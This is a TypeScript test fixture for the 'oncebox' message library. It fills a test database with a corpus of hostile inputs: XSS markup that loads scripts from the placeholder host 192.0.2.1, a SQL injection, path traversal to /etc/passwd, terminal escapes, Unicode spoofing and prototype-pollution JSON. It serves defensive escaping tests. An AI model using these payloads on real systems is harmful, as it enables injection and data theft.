/**
 * Two hundred texts that a sender may write where a person will look: markup that runs, reaches out or breaks out, escapes of
 * terminals, directions, what is invisible, names that every object has, pieces of addresses and of queries. A script among them
 * would call `hacked`, and a request of theirs would go to 192.0.2.1, where nobody is.
 */
import type pg from 'pg'
import { Reject, type Incoming, type Message, type MessageMap, type Sink } from 'oncebox'
import { fromPg, type PgClient } from 'oncebox/pg'
import { createTestBox, type TestBox } from 'oncebox/testing'

const AWAY = 'http://192.0.2.1'
const RUN = 'hacked(1)'

const MARKUP = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT >`,
  `<script src="${AWAY}/x.js"></script>`,
  `<script type=module>import '${AWAY}/x.js'</script>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x">`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<img src=x onerror=${RUN}>`,
  `<img src="${AWAY}/pixel.png">`,
  `<img/src/onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${AWAY}/x.swf">`,
  `<a href="javascript:${RUN}">look</a>`,
  `<a href="${AWAY}" ping="${AWAY}/ping" autofocus>look</a>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<style>@import url("${AWAY}/x.css");*{display:none}</style>`,
  `<link rel=stylesheet href="${AWAY}/x.css">`,
  `<link rel=preload as=script href="${AWAY}/x.js">`,
  `<base href="${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<form action="${AWAY}"><button autofocus>Retry 1 message</button></form>`,
  `<dialog open>All clear</dialog>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<xmp><img src=x onerror=${RUN}></xmp>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<div style="position:fixed;inset:0;background:url(${AWAY}/x.png)">`,
  `<p id=main class=vh hidden>`,
  `<portal src="${AWAY}"></portal>`,
]
const BREAKOUTS = [
  '"',
  "'",
  '`',
  '</script>',
  '</title>',
  '</style>',
  '</textarea>',
  '-->',
  ']]>',
  '</td></tr></table>',
]
const CODE = [
  `{{constructor.constructor('${RUN}')()}}`,
  '${' + RUN + '}',
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `';${RUN};//`,
  `"+${RUN}+"`,
  `\\x3cscript\\x3e${RUN}`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `/*/*/`,
  `//# sourceMappingURL=${AWAY}/x.map`,
  `expression(${RUN})`,
  `url(${AWAY}/x)`,
]
const TERMINAL = [
  '\u001b[31mred\u001b[0m',
  '\u001b[2J\u001b[H',
  '\u001b]0;title\u0007',
  '\u001b]52;c;ZXZpbA==\u0007',
  '\u001b]8;;http://192.0.2.1\u001b\\click\u001b]8;;\u001b\\',
  'good\rbad',
  'two\nlines',
  'a\tb',
  '\b\b\b',
  '\u009b31m',
  '\u009d0;x\u009c',
  '\u0007\u0007',
  '\u001b[?1049h',
  '\u001bP$q"p\u001b\\',
  '\u007f\u007f',
]
const SCRIPTS = [
  '\u202egnp.exe',
  '\u202a\u202b\u202d\u202e all of them',
  '\u2066\u2067\u2068 never closed',
  '\u200f\u200e\u061c marks',
  'שלום handled עולם',
  'مرحبا state:dead',
  'a\u200bb\u200cc\u200dd\ufeffe',
  '\u2028line\u2029paragraph',
  '\u{e0041}\u{e0042}\u{e007f} tags',
  `Z${'\u0300\u0316\u0338'.repeat(60)}algo`,
  '👩‍👩‍👧‍👦🏳️‍🌈 family',
  '\ufffe\uffff none',
  '\ufdd0 none',
  '\u0000'.replace('\u0000', '\u0001\u0002\u0003'),
  'ﷺ'.repeat(40),
  '\u00ad\u034f\u115f\u3164 blank',
  'ａｄｍｉｎ full width',
  'раураl cyrillic',
  '\u0085next line',
  'İıſK folds',
]
const NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'then', 'toJSON', 'length'],
  ...[
    '__defineGetter__',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-1',
    '[object Object]',
    'location',
    'innerHTML',
    'self',
  ],
]
const ADDRESSES = [
  ...[
    '../../etc/passwd',
    '..%2f..%2fapi',
    '/api/v1/session',
    '//192.0.2.1/x',
    '\\\\192.0.2.1\\x',
    '%00',
    '%',
    '%zz',
    '?q=x&box=other',
  ],
  ...[
    '#fragment',
    'a/b/c',
    '.',
    '..',
    'a b',
    'a+b',
    'a&b=c',
    'a;b',
    'a:b@c',
    '\\',
    'http://192.0.2.1/?a=%0d%0aset-cookie:x',
  ],
]
const QUERIES = [
  ...[
    'state:dead',
    'state:dead,handled',
    '"state:dead"',
    'consumer:"a b"',
    'data.a.b:1',
    'data.__proto__:1',
    'id:*',
    '-state:dead',
  ],
  ...[
    'a,b',
    ',,,',
    '""',
    '"',
    '\\"',
    'state:',
    ':',
    'before:now',
    "'; drop table message; --",
    '$1',
    '%s%n',
    'error:%_',
  ],
]
const LONG = ['x'.repeat(500), 'W'.repeat(300), `${'word '.repeat(60)}end`, '<b>'.repeat(100), 'é'.repeat(250)]

/** Wrapped once more, as markup that would end what it stands in. */
const BROKEN_OUT = BREAKOUTS.flatMap((end) => [`${end}<img src=x onerror=${RUN}>`, `${end} onfocus=${RUN} autofocus x=`, `${end}><svg onload=${RUN}>`, `a${end}b`]) // prettier-ignore

export const CORPUS: readonly string[] = [
  ...[...MARKUP, ...BROKEN_OUT, ...CODE, ...TERMINAL, ...SCRIPTS, ...NAMES, ...ADDRESSES, ...QUERIES, ...LONG],
]

/** Bodies that are strange as a whole. They are JSON unless they are bytes. */
export const BODIES: Readonly<Record<string, string | Buffer>> = {
  'five megabytes': JSON.stringify({ text: '<b>&'.repeat(1_310_720) }),
  'five hundred deep': `${'{"a":['.repeat(250)}1${']}'.repeat(250)}`,
  'a hundred thousand elements': JSON.stringify(Array.from({ length: 100_000 }, (_, at) => at)),
  'ten thousand keys': JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`<b>${at}`, at]))),
  'a key of a hundred kilobytes': JSON.stringify({ ['k<b>'.repeat(25_600)]: 1 }),
  'lone surrogates': '{"\\ud800":"\\udfff","a":"\\ud83d"}',
  'names of every object': '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}},"toJSON":1,"then":1}',
  'the same key twice': '{"a":1,"a":2,"__proto__":1,"__proto__":2}',
  'numbers that no computer has': '[1e999,-1e999,1e-999,-0,0.1000000000000000055511151231257827,123456789012345678901234567890]',
  'nothing printable': '"\\u0000\\u0001\\u001b\\u007f\\u0085\\u2028"',
  'a text of JSON': JSON.stringify(JSON.stringify({ a: '<script>hacked(1)</script>' })),
  'white space': ' \n\t {\n "a" :\r 1 } \n',
  'empty of everything': '{"":{"":[[],{},"",null]}}',
  'no JSON': '<html><script>hacked(1)</script>',
  'no text': Buffer.from([0xff, 0xfe, 0x00, 0xd8, 0x3c, 0x73, 0x63, 0x72, 0x69, 0x70, 0x74, 0x3e]),
  'nothing': '',
} // prettier-ignore

/** Every text as a value, and as a key. */
export function bodyOfAll(): string {
  return JSON.stringify({ values: CORPUS, keys: Object.fromEntries(CORPUS.map((text, at) => [text, at])) })
}

export const EVIL_CONSUMER = '<svg onload=hacked(1)>'
export const EVIL_SINK = '"><img src=x onerror=hacked(1)>'

/** A text in each place that a sender, a handler or an operator can write to. */
export async function fillHostile(pool: pg.Pool): Promise<TestBox<MessageMap, pg.PoolClient, PgClient>> {
  const box = await createTestBox({ db: fromPg(pool), source: 'shop', maxBytes: 16 << 20 })
  declareHostile(box)
  const headers = Object.fromEntries(CORPUS.map((text, at) => [`h${at}`, text]))
  await box.receive([
    ...CORPUS.map((text, at) => messageOf(text, at)),
    { id: 'all', type: 'all', source: 'shop', headers, body: bodyOfAll() },
    ...CORPUS.slice(0, 20).map((text, at) => ({
      id: `lane-${at}`,
      type: 'lane',
      key: text,
      source: 'shop',
      data: text,
    })),
  ])
  await box.drain()
  await box.receive([
    ...CORPUS.slice(0, 20).map((text, at) => ({
      id: `behind-${at}`,
      type: 'lane',
      key: text,
      source: 'shop',
      data: 1,
    })),
    // Under ids that are there already.
    ...CORPUS.slice(0, 10).map((text, at) => messageOf(text, at, { other: text })),
    ...Object.entries(BODIES).map(([id, body]) => ({ id, type: 'body', source: 'shop', body })),
  ])
  await box.drain()
  await box.admin.discard({ id: CORPUS[1]! }, { reason: CORPUS.join(' ').slice(0, 1_900), by: '<b>&\u202e<script>' })
  await box.admin.pause(EVIL_CONSUMER, { reason: '<script>hacked(1)</script>', by: EVIL_SINK })
  return box
}

function messageOf(text: string, at: number, data: object = { at, text }): Incoming {
  const source = at % 2 === 0 ? 'shop' : text
  return {
    id: text,
    type: text,
    source,
    key: text,
    subject: text,
    headers: { text },
    body: JSON.stringify(data),
  }
}

function declareHostile(box: TestBox<MessageMap, pg.PoolClient, PgClient>): void {
  let at = 0
  box.consumer(
    'strange',
    {
      '*': async ({ id, type }, { send, effect }) => {
        if (type === 'all' || type === 'body') return { result: type === 'all' ? CORPUS : id }
        switch (at++ % 4) {
          case 0:
            await send(id, { text: id }, { key: id, headers: { text: id } })
            return { [id]: id }
          case 1:
            throw new Reject(id)
          case 2:
            throw Object.assign(new Error(id, { cause: new TypeError(id) }), { name: id, code: id, stack: `${id}\n at ${id}` })
          default:
            return effect(id.slice(0, 60), () => Promise.reject(new Error(id)), { onUnknown: 'park' })
        }
      },
      lane: () => undefined,
    },
    { retry: { attempts: 1 } },
  )
  box.consumer(EVIL_CONSUMER, { lane: ({ data }) => Promise.reject(new Reject(String(data))) }, { order: 'key' })
  const refuse = (batch: readonly Message[]) => batch.map(({ id }) => ({ error: new Error(id), retry: false }))
  box.to({ name: EVIL_SINK, publish: (batch: readonly Message[]) => Promise.resolve(refuse(batch)), close: () => Promise.resolve() } as Sink)
} // prettier-ignore
